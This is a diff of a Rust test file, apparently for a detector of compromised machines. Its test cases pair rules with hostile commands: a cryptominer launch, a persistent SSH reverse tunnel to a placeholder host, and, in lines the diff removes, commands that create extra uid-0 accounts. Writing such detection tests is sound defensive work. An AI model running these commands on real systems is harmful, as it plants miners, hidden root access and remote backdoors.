@@ -23,9 +23,6 @@ fn a_machine_that_is_given_away_is_reported() {
             Rule::Miner,
             "./x --donate-level 1 --url p.example.invalid:3333 --user 4AInertAccount --background",
         ),
-        (Rule::SecondRoot, "useradd -o -u 0 -M svc"),
-        (Rule::SecondRoot, "sudo useradd -ou 0 -g 0 helper"),
-        (Rule::SecondRoot, "usermod --non-unique --uid 0 backup"),
         (
             Rule::ReverseShell,
             "nohup ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 a@r.example.invalid >/dev/null 2>&1 &",
